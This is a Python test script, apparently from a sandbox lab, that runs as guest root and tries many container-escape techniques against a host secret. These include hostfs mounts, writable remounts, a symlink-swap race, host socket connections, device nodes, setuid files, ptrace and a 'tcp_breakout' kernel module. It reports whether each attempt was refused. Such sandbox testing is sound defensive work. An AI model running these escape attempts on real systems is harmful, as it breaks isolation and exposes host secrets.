"""What a stranger's program may try as the guest's root: python3 attempts.py, in a lab.

attempts.json says where the host has a secret, who listens, and who runs there. A line for each
attempt: its name, and "refused", or "REACHED" and what it got.
"""

from __future__ import annotations

import contextlib
import ctypes
import glob
import json
import os
import socket
import time
from collections.abc import Callable, Iterator
from functools import partial

MS_RDONLY, MS_REMOUNT, MS_BIND, MNT_DETACH = 1, 32, 4096, 2
SYS_FINIT_MODULE, SYS_FSOPEN, SYS_FSCONFIG, SYS_FSMOUNT = 313, 430, 431, 432
SETS_STRING, CREATES = 1, 6
CODE, LAB, HERE_DOOR = "/run/sandglass/code", "/run/sandglass/lab", "35"
libc = ctypes.CDLL(None, use_errno=True)
told = json.loads(open("attempts.json").read())
secret, folder = told["secret"], os.path.dirname(told["secret"])
HERE = os.getcwd()


def checked(result: int) -> int:
    """Raise OSError for a system call that failed."""
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def mount(source: str, target: str, kind: str, flags: int, data: str | None) -> None:
    """mount(2)."""
    options = data.encode() if data is not None else None
    checked(libc.mount(source.encode(), target.encode(), kind.encode(), flags, options))


@contextlib.contextmanager
def mounted(data: str) -> Iterator[str]:
    """A directory of the host's by hostfs."""
    place = "/tmp/mounted"
    os.makedirs(place, exist_ok=True)
    mount("none", place, "hostfs", 0, data)
    try:
        yield place
    finally:
        libc.umount2(place.encode(), MNT_DETACH)


def listed(data: str) -> list[str]:
    """What hostfs shows of a place."""
    with mounted(data) as place:
        return os.listdir(place)


def by_the_newer_calls() -> list[str]:
    """hostfs mounted by fsopen(2)."""
    opened = checked(libc.syscall(SYS_FSOPEN, b"hostfs", 0))
    checked(libc.syscall(SYS_FSCONFIG, opened, SETS_STRING, b"hostfs", b"/", 0))
    checked(libc.syscall(SYS_FSCONFIG, opened, CREATES, None, None, 0))
    place = checked(libc.syscall(SYS_FSMOUNT, opened, 0, 0))
    return os.listdir(place)


def written(place: str) -> str:
    """A file made in a directory."""
    path = f"{place}/planted"
    with open(path, "w") as file:
        file.write("x")
    return path


def remounted(place: str) -> str:
    """A directory that is to be read, made writable."""
    mount("none", place, "none", MS_REMOUNT, None)
    return written(place)


def bound(place: str) -> str:
    """The same by way of another mount of it."""
    os.makedirs("/tmp/bound", exist_ok=True)
    mount(place, "/tmp/bound", "none", MS_BIND, None)
    mount("none", "/tmp/bound", "none", MS_BIND | MS_REMOUNT, None)
    return written("/tmp/bound")


def anew(door: str) -> str:
    """The same by mounting it once more."""
    with mounted(door) as place:
        return written(place)


@contextlib.contextmanager
def swapped() -> Iterator[str]:
    """A directory of ours that has become a link to the secret's, as its kernel has not seen."""
    name = f"swapped-{time.monotonic_ns()}"
    os.mkdir(f"{HERE}/{name}")
    os.listdir(f"{HERE}/{name}")
    with mounted(HERE_DOOR) as other:
        os.rmdir(f"{other}/{name}")
        os.symlink(folder, f"{other}/{name}")
        yield f"{HERE}/{name}"


def through(use: Callable[[str], object]) -> object:
    """What a swapped directory gives."""
    with swapped() as place:
        return use(place)


def linked() -> str:
    """The secret by a link that the guest follows."""
    os.symlink(secret, "link")
    return open("link").read()


def connected(family: int, address: tuple[str, int] | str) -> str:
    """A socket of the host's."""
    with socket.socket(family, socket.SOCK_STREAM) as client:
        client.settimeout(1)
        client.connect(address)
        return client.recv(9).decode()


def device(kind: int, major: int) -> str:
    """A device of the host's in a directory of the host's, opened."""
    path = f"device-{kind}"
    os.mknod(path, kind | 0o666, os.makedev(major, 0))
    return path


def set_id(mode: int) -> str:
    """A program that would run as whoever owns it."""
    path = f"set-id-{mode:o}"
    with open(path, "w") as file:
        file.write("#!/bin/sh\n")
    os.chmod(path, mode)
    return oct(os.stat(path).st_mode)


def traced(pid: int) -> int:
    """A process of the host's, seized."""
    return checked(libc.ptrace(0x4206, pid, 0, 0))


def module() -> None:
    """What a module tries tells the kernel's log."""
    [file] = glob.glob(f"{LAB}/lib/modules/*/tcp_breakout.ko")
    words = f"secret={secret} pid={told['pid']} port={socket.htons(told['port'])}"
    with open(file) as opened:
        libc.syscall(SYS_FINIT_MODULE, opened.fileno(), words.encode(), 0)
    log = ctypes.create_string_buffer(1 << 20)
    size = libc.klogctl(3, log, len(log))
    for line in log.raw[:size].decode(errors="replace").splitlines():
        if "breakout: " in line:
            print("module: " + line.partition("breakout: ")[2])


ELSEWHERE = ("/", "/etc", folder, "", "..", "35/..", "35/../..", "/proc/self/fd/35/..", "0", "1",
             "2", "3", "29", "36", "+35", "-1", "self", "cwd", "33")  # fmt: skip
ATTEMPTS: dict[str, Callable[[], object]] = {
    **{f"hostfs of {data!r}": partial(listed, data) for data in ELSEWHERE},
    "hostfs by fsopen": by_the_newer_calls,
    **{f"write to {place}": partial(written, place) for place in (CODE, LAB, "/usr")},
    **{f"remount {place}": partial(remounted, place) for place in (CODE, LAB, "/")},
    **{f"bind {place}": partial(bound, place) for place in (CODE, LAB)},
    **{f"mount {door} anew": partial(anew, door) for door in ("30", "31", "32")},
    "what the checkout holds besides": lambda: open(f"{CODE}/.git/HEAD").read(),
    "link": linked,
    "read through a swapped directory": lambda: through(lambda at: open(f"{at}/secret").read()),
    "write through one": lambda: through(written),
    "list one": lambda: through(os.listdir),
    "link through one": lambda: through(lambda at: os.link(f"{at}/secret", "stolen")),
    "rename through one": lambda: through(lambda at: os.rename("attempts.json", f"{at}/moved")),
    "remove through one": lambda: through(lambda at: os.unlink(f"{at}/secret")),
    "mode through one": lambda: through(lambda at: os.chmod(f"{at}/secret", 0o777)),
    "connect": lambda: connected(socket.AF_INET, ("127.0.0.1", told["port"])),
    "connect by a file": lambda: connected(socket.AF_UNIX, "socket"),
    "connect by a name": lambda: connected(socket.AF_UNIX, "\0" + told["name"]),
    "block device": lambda: device(0o060000, 254),
    "character device": lambda: device(0o020000, 1),
    "setuid": lambda: set_id(0o4755),
    "setgid": lambda: set_id(0o2755),
    "signal": lambda: os.kill(told["pid"], 0),
    "trace": lambda: traced(told["pid"]),
    "environment of a process": lambda: open(f"/proc/{told['pid']}/environ").read(),
    "the secret by its name": lambda: open(secret).read(),
}
for name, attempt in ATTEMPTS.items():
    try:
        print(f"{name}: REACHED {attempt()!r}")
    except OSError as error:
        print(f"{name}: refused {error.strerror or error}")
module()
